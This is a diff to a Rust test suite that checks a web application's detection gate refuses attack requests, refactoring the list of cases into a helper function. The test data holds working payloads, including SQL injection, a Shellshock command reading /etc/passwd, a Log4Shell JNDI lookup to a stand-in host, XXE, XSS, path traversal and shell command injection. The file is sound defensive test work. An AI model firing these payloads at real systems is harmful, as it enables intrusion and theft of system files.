@@ -11,6 +11,7 @@ use web::Routes;
 use crate::{app::TestApp, client::Answer};
 
 const SQL: &str = "7' or 3 > 2 --";
+const ENCODED: &str = "7%27+or+3+%3E+2+--";
 
 async fn probe() -> TestApp {
     TestApp::start_with(|config| config.gate.probe = true, Routes::new("")).await
@@ -93,60 +94,54 @@ async fn whatever_is_harmless_passes() {
     app.app.log.flush().await.unwrap();
 }
 
-#[tokio::test]
-async fn an_attack_is_refused_wherever_it_stands() {
-    let app = probe().await;
-    let encoded = "7%27+or+3+%3E+2+--";
-    let part = |head: &str, content: &str| {
-        format!("--x\r\nContent-Disposition: form-data; {head}\r\n\r\n{content}\r\n--x--\r\n")
-    };
-    let post = |kind: &str| to("/a").method("POST").header("content-type", kind);
-    let form = format!("a=b&c={encoded}");
+fn post(kind: &str) -> http::request::Builder {
+    to("/a").method("POST").header("content-type", kind)
+}
+
+fn part(head: &str, content: &str) -> String {
+    format!("--x\r\nContent-Disposition: form-data; {head}\r\n\r\n{content}\r\n--x--\r\n")
+}
+
+/// Requests with an attack, and the field that the refusal names.
+fn attacks() -> Vec<(http::request::Builder, String, &'static str)> {
+    let none = String::new;
+    let form = format!("a=b&c={ENCODED}");
     let json_text = json!({"a": [{"b": SQL}]}).to_string();
+    let parts = "multipart/form-data; boundary=x";
+    let shellshock = "() { :; }; /bin/cat /etc/passwd";
+    let script = "https://a.example/?q=%3Cscript%3Ealert(1)%3C/script%3E";
+    let entity = "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>";
     let mut cases = vec![
-        (to(&format!("/a?q={encoded}")), String::new(), "q"),
-        (to(&format!("/a?{encoded}=1")), String::new(), ""),
-        (to("/files/%c0%ae%c0%ae%c0%afetc/passwd"), String::new(), ""),
-        (to("/a").header("user-agent", "() { :; }; /bin/cat /etc/passwd"), String::new(), "user-agent"),
-        (
-            to("/a").header("referer", "https://a.example/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
-            String::new(),
-            "referer",
-        ),
-        (to("/a").header("x-api-version", "${jndi:ldap://a.example/x}"), String::new(), "x-api-version"),
-        (to("/a").header("cookie", format!("a=b; c={encoded}")), String::new(), "c"),
-        (post("application/x-www-form-urlencoded"), form.clone(), "c"),
-        (post("application/json"), json_text.clone(), "a[0].b"),
+        (to(&format!("/a?q={ENCODED}")), none(), "q"),
+        (to(&format!("/a?{ENCODED}=1")), none(), ""),
+        (to("/files/%c0%ae%c0%ae%c0%afetc/passwd"), none(), ""),
+        (to("/a").header("user-agent", shellshock), none(), "user-agent"),
+        (to("/a").header("referer", script), none(), "referer"),
+        (to("/a").header("x-api-version", "${jndi:ldap://a.example/x}"), none(), "x-api-version"),
+        (to("/a").header("cookie", format!("a=b; c={ENCODED}")), none(), "c"),
         (post("application/json"), format!(r#"{{"a":"{SQL}","a":1}}"#), "a"),
         (post("application/json"), json!({ SQL: 1 }).to_string(), ""),
-        (post("multipart/form-data; boundary=x"), part("name=\"n\"", SQL), "n"),
-        (post("multipart/form-data; boundary=x"), part("name=\"n\"; filename=\"a.php\"", "x"), "n"),
-        (
-            post("multipart/form-data; boundary=x"),
-            part("name=\"n\"; filename=\"a.svg\"", "<svg onload=alert(1)>"),
-            "n",
-        ),
-        (
-            post("application/xml"),
-            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>".to_owned(),
-            "",
-        ),
-        (to("/a").method("BREW"), format!("id={encoded}"), "id"),
+        (post(parts), part("name=\"n\"", SQL), "n"),
+        (post(parts), part("name=\"n\"; filename=\"a.php\"", "x"), "n"),
+        (post(parts), part("name=\"n\"; filename=\"a.svg\"", "<svg onload=alert(1)>"), "n"),
+        (post("application/xml"), entity.to_owned(), ""),
+        (to("/a").method("BREW"), format!("id={ENCODED}"), "id"),
         (post("text/plain"), "; cat /etc/passwd".to_owned(), ""),
     ];
     // A wrong type hides nothing.
-    for kind in [
-        "text/plain",
-        "application/json",
-        "multipart/form-data",
-        "image/png",
-        "application/x-www-form-urlencoded",
-    ] {
+    let forms = "application/x-www-form-urlencoded";
+    for kind in ["text/plain", "application/json", "multipart/form-data", "image/png", forms] {
         cases.push((post(kind), json_text.clone(), "a[0].b"));
         cases.push((post(kind), part("name=\"n\"", SQL), "n"));
         cases.push((post(kind), form.clone(), "c"));
     }
-    for (request, body, field) in cases {
+    cases
+}
+
+#[tokio::test]
+async fn an_attack_is_refused_wherever_it_stands() {
+    let app = probe().await;
+    for (request, body, field) in attacks() {
         let what = format!("{request:?} {body}");
         let answer = ask(&app, request, body).await;
         assert_eq!(answer.status.as_u16(), 403, "{what}");
@@ -157,9 +152,13 @@ async fn an_attack_is_refused_wherever_it_stands() {
             "no rule: {told}"
         );
     }
-    for (word, packed) in
-        [("gzip", gzip(&form)), ("identity", gzip(&json_text)), ("br", form.clone().into_bytes())]
-    {
+    let form = format!("a=b&c={ENCODED}");
+    let packed = [
+        ("gzip", gzip(&form)),
+        ("identity", gzip(&json!({"a": SQL}).to_string())),
+        ("br", form.into_bytes()),
+    ];
+    for (word, packed) in packed {
         let request = post("text/plain").header("content-encoding", word);
         ask(&app, request, packed).await.refused(403, "THREAT_DETECTED");
     }
